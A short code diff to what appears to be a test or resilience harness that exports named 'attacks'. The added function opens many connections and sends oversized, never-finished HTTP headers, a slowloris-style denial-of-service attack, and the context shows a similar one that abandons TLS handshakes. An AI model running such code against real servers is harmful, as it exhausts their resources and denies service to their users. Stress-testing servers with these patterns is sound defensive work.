@@ -85,6 +85,12 @@ export const attacks = {
     })
   },
 
+  /** Heads as long as they may be, but for their end. */
+  heldHeads: async ({ httpPort, connections }) => {
+    const head = `GET / HTTP/1.1\r\n${host}X-Long: ${'y'.repeat(30_000)}`
+    for (const socket of await openMany(httpPort, connections)) socket.write(head)
+  },
+
   /** TLS handshakes that are begun and left. */
   silentHandshakes: async ({ httpsPort, connections }) => {
     await openMany(httpsPort, connections)
